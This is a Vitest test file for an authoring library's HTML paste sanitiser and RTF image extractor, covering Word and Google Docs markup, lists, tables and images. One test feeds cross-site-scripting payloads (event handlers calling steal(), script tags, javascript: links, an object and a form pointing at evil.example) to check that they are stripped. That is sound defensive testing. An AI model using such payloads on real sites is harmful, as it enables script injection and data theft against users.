// @vitest-environment happy-dom
import { cleanPastedHtml, picturesInRtf } from '@karmashala/authoring'
import { expect, test } from 'vitest'

const FROM_WORD = `<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office">
<head><meta name=Generator content="Microsoft Word 15"><style><!-- p.MsoNormal {margin:0cm;} --></style>
<!--[if gte mso 9]><xml><o:OfficeDocumentSettings/></xml><![endif]--></head>
<body lang=EN-IN style='tab-interval:36.0pt'><!--StartFragment-->
<h1>Recording a file note<o:p></o:p></h1>
<p class=MsoNormal>A note is <b style='mso-bidi-font-weight:normal'>signed</b> and <i>dated</i>, see
<a href="https://example.gov.in/manual"><span style='color:#0563C1'>the manual</span></a>.<o:p></o:p></p>
<p class=MsoListParagraphCxSpFirst style='text-indent:-18.0pt;mso-list:l0 level1 lfo1'><![if !supportLists]><span
style='font-family:Symbol'><span style='mso-list:Ignore'>·<span style='font:7.0pt "Times New Roman"'>&nbsp;&nbsp; </span></span></span><![endif]>Facts<o:p></o:p></p>
<p class=MsoListParagraphCxSpMiddle style='margin-left:72.0pt;mso-list:l0 level2 lfo1'><![if !supportLists]><span
style='mso-list:Ignore'>o<span>&nbsp; </span></span><![endif]>with dates<o:p></o:p></p>
<p class=MsoListParagraphCxSpLast style='text-indent:-18.0pt;mso-list:l0 level1 lfo1'><![if !supportLists]><span
style='mso-list:Ignore'>·<span>&nbsp;&nbsp;</span></span><![endif]>Rules</p>
<p class=MsoListParagraph style='mso-list:l1 level1 lfo2'><span style='mso-list:Ignore'>1.<span>&nbsp; </span></span>First</p>
<table class=MsoTableGrid border=1><tr><td width=300 style='width:225pt;border:solid'><p class=MsoNormal><b>Level</b></p></td>
<td colspan=2><p class=MsoNormal>Officer</p></td></tr></table>
<p class=MsoNormal><o:p>&nbsp;</o:p></p>
<p class=MsoNormal><img width=20 src="file:///C:/Users/x/AppData/clip_image001.png"><span style='mso-element:comment'>remove me</span></p>
<!--EndFragment--></body></html>`

test('headings, bold, italic and links of Word stay, and nothing of its styles', () => {
  const html = cleanPastedHtml(FROM_WORD)

  expect(html).toContain('<h2>Recording a file note</h2>')
  expect(html).toContain('<strong>signed</strong>')
  expect(html).toContain('<em>dated</em>')
  expect(html).toContain('<a href="https://example.gov.in/manual">the manual</a>')
  expect(html).not.toMatch(/mso|style=|class=|<span|o:p|StartFragment|remove me/i)
})

test('the paragraphs Word calls list points become nested lists without written bullets', () => {
  const html = cleanPastedHtml(FROM_WORD)

  expect(html).toContain(
    '<ul><li><p>Facts</p><ul><li><p>with dates</p></li></ul></li><li><p>Rules</p></li></ul>',
  )
  expect(html).toContain('<ol><li><p>First</p></li></ol>')
  expect(html).not.toContain('·')
})

test('a table of Word keeps its rows, cells and spans', () => {
  const html = cleanPastedHtml(FROM_WORD).replace(/\s+/g, ' ')

  expect(html).toMatch(
    /<table><tbody><tr><td><p><strong>Level<\/strong><\/p><\/td> ?<td colspan="2"><p>Officer<\/p><\/td><\/tr><\/tbody><\/table>/,
  )
})

test('an image that is only a path on the disk of the writer is left out', () => {
  expect(cleanPastedHtml(FROM_WORD)).not.toContain('<img')
})

test('an image the clipboard holds itself stays, for the library', () => {
  const html = cleanPastedHtml(
    '<p>See</p><img src="data:image/png;base64,iVBORw0KGgo=" onerror="x()" alt="Seal">',
  )

  expect(html).toContain('<img src="data:image/png;base64,iVBORw0KGgo=" alt="Seal">')
})

const FROM_DOCS = `<meta charset="utf-8"><b style="font-weight:normal;" id="docs-internal-guid-1c2">
<h2 dir="ltr" style="line-height:1.38;"><span style="font-size:16pt;font-weight:400">Leave rules</span></h2>
<p dir="ltr"><span style="font-weight:700">Earned</span><span style="font-weight:400;font-style:italic"> leave</span></p>
<ul style="margin-top:0"><li dir="ltr" aria-level="1"><p dir="ltr" role="presentation"><span>One</span></p></li>
<li dir="ltr" aria-level="1"><p dir="ltr"><span>Two</span></p></li></ul><br class="Apple-interchange-newline"></b>`

test('what Google Docs wraps into a bold that is none is not bold, and what is bold in it is', () => {
  const html = cleanPastedHtml(FROM_DOCS)

  expect(html).toContain('<h2>Leave rules</h2>')
  expect(html).toContain('<p><strong>Earned</strong><em> leave</em></p>')
  expect(html).toMatch(/<ul><li><p>One<\/p><\/li>\s*<li><p>Two<\/p><\/li><\/ul>/)
  expect(html).not.toMatch(/<b\b|style=|dir=|docs-internal/)
})

test('pasted markup with programs in it is harmless', () => {
  const html = cleanPastedHtml(
    `<p onclick="steal()">Hello<script>steal()</script><object data="https://evil.example/x.swf"></object></p>
     <a href="javascript:steal()">there</a><svg><script>steal()</script></svg><img src=x onerror=steal()>
     <form action="https://evil.example"><input value="1"></form><a href="  JavaScript:steal()">again</a>`,
  )

  expect(html).not.toMatch(/steal|script|iframe|evil|onclick|onerror|<img|<form/i)
  expect(html).toContain('Hello')
  expect(html).toContain('there')
})

test('words that were struck out in Word are gone, and the rest of the sentence is there', () => {
  const html = cleanPastedHtml('<p>Stays <ins>new</ins><del cite="mailto:x">old</del>.<o:p>&nbsp;</o:p></p>')

  expect(html).toBe('<p>Stays new.</p>')
})

test('tables that only lay something out are taken apart, and cells hold nothing that cells may not hold', () => {
  const layout = cleanPastedHtml(
    '<table><tr><td><h2>Notice</h2><table><thead><tr><td>Kind</td></tr></thead><tr><td><h3>Leave</h3><img src="data:image/png;base64,AAAA"></td></tr></table></td><td>Aside</td></tr></table>',
  )

  expect(layout).toBe(
    '<h2>Notice</h2><table><tbody><tr><th>Kind</th></tr></tbody><tbody><tr><td><p><strong>Leave</strong></p></td></tr></tbody></table><img src="data:image/png;base64,AAAA"><p>Aside</p>',
  )
})

test('a picture in a line stands between the words before and behind it', () => {
  const html = cleanPastedHtml('<p>Before <b>it <img src="data:image/png;base64,AAAA"> and</b> after</p>')

  expect(html.replace(/\s+/g, ' ')).toBe(
    '<p>Before <strong>it </strong></p><img src="data:image/png;base64,AAAA"><p><strong> and</strong> after</p>',
  )
})

test('a link of Google Docs leads to the page and not by way of Google', () => {
  const html = cleanPastedHtml(
    '<p><a href="https://www.google.com/url?q=https://rules.example.in/a&sa=D">Rules</a> <a href="https://www.google.com/url?q=javascript:x">no</a></p>',
  )

  expect(html).toContain('<a href="https://rules.example.in/a">Rules</a>')
  expect(html).not.toContain('"javascript')
})

test('the pictures of a text of Word are in the RTF beside it, once each', () => {
  const png = String.raw`{\*\shppict{\pict{\*\picprop\shplid1{\sp{\sn x}}}\picwgoal150\pngblip\bliptag12{\*\blipuid 0aff}
89504e47
0d0a}}{\nonshppict{\pict\wmetafile8 0102}}`
  const rtf = String.raw`{\rtf1 One ${png} two {\pict\jpegblip ffd8ff}}`

  const pictures = picturesInRtf(rtf)

  expect(pictures.map(({ type, bytes }) => [type, [...bytes]])).toEqual([
    ['image/png', [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a]],
    ['image/jpeg', [0xff, 0xd8, 0xff]],
  ])
  expect(picturesInRtf(String.raw`{\rtf1 no picture {\pict`)).toEqual([])
})

test('a first row of bold words is a row of headers', () => {
  const html = cleanPastedHtml(
    '<table><tr><td><p><b>Kind</b></p></td><td><b>Days</b></td></tr><tr><td><b>Earned</b></td><td>30</td></tr></table>',
  )

  expect(html).toContain('<th><p><strong>Kind</strong></p></th><th><strong>Days</strong></th>')
  expect(html).toContain('<td><strong>Earned</strong></td>')
})
